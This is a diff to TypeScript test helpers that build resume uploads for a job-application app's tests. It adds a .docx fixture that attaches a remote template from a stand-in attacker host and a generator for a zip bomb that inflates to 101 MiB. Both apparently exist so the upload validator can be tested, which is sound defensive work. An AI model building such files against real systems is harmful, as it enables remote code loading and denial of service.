@@ -1,6 +1,6 @@
 // Test helpers: builders for valid submissions and for the files a resume can be. The app they
 // are sent to is testApp.ts's.
-import { crc32 } from 'node:zlib';
+import { crc32, deflateRawSync } from 'node:zlib';
 
 export const validContact = () => ({
   firstName: 'Asha',
@@ -129,6 +129,34 @@ export const documents = {
       { name: 'word/document.xml', content: '<w:document/>' },
     ]),
   zipOfOther: () => zip([{ name: '[Content_Types].xml', content: '' }, 'xl/workbook.xml']),
+  /** A document whose settings attach a template from another server (fetched when it is opened). */
+  docxRemoteTemplate: () =>
+    zip([
+      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
+      { name: 'word/document.xml', content: '<w:document/>' },
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content:
+          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+      },
+    ]),
+  /** A document with an external hyperlink (a LinkedIn profile): an ordinary resume. */
+  docxWithHyperlink: () =>
+    zip([
+      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
+      { name: 'word/document.xml', content: '<w:document/>' },
+      {
+        name: 'word/_rels/document.xml.rels',
+        content:
+          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/asha-rao" TargetMode="External"/></Relationships>',
+      },
+    ]),
+  /** A document part that inflates to 101 MiB (a zip bomb a few hundred kilobytes long). */
+  docxBomb: () =>
+    zip([
+      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
+      { name: 'word/document.xml', inflatesTo: 101 * 1024 * 1024 },
+    ]),
 };
 
 const FREE = 0xffffffff;
@@ -184,30 +212,39 @@ export function ole2(items: { name: string; type: 1 | 2; data: Buffer }[]): Buff
   return Buffer.concat([header, fat, directory, ...data]);
 }
 
-/** A stored (uncompressed) zip of the given entries (a bare name is an empty entry). */
-export function zip(items: (string | { name: string; content: string })[]): Buffer {
+/**
+ * A zip of the given entries (a bare name is an empty entry), stored uncompressed, but for an
+ * entry of `inflatesTo` zero bytes, deflated.
+ */
+export function zip(
+  items: (string | { name: string; content: string } | { name: string; inflatesTo: number })[],
+): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
   for (const item of items) {
-    const { name, content } = typeof item === 'string' ? { name: item, content: '' } : item;
-    const nameBytes = Buffer.from(name);
-    const data = Buffer.from(content);
-    const checksum = crc32(data);
+    const entry = typeof item === 'string' ? { name: item, content: '' } : item;
+    const nameBytes = Buffer.from(entry.name);
+    const plain = 'content' in entry ? Buffer.from(entry.content) : Buffer.alloc(entry.inflatesTo);
+    const deflated = 'inflatesTo' in entry;
+    const data = deflated ? deflateRawSync(plain) : plain;
+    const checksum = crc32(plain);
     const local = Buffer.alloc(30);
     local.writeUInt32LE(0x04034b50, 0);
     local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(deflated ? 8 : 0, 8);
     local.writeUInt32LE(checksum, 14);
     local.writeUInt32LE(data.length, 18);
-    local.writeUInt32LE(data.length, 22);
+    local.writeUInt32LE(plain.length, 22);
     local.writeUInt16LE(nameBytes.length, 26);
     const central = Buffer.alloc(46);
     central.writeUInt32LE(0x02014b50, 0);
     central.writeUInt16LE(20, 4);
     central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(deflated ? 8 : 0, 10);
     central.writeUInt32LE(checksum, 16);
     central.writeUInt32LE(data.length, 20);
-    central.writeUInt32LE(data.length, 24);
+    central.writeUInt32LE(plain.length, 24);
     central.writeUInt16LE(nameBytes.length, 28);
     central.writeUInt32LE(offset, 42);
     locals.push(local, nameBytes, data);
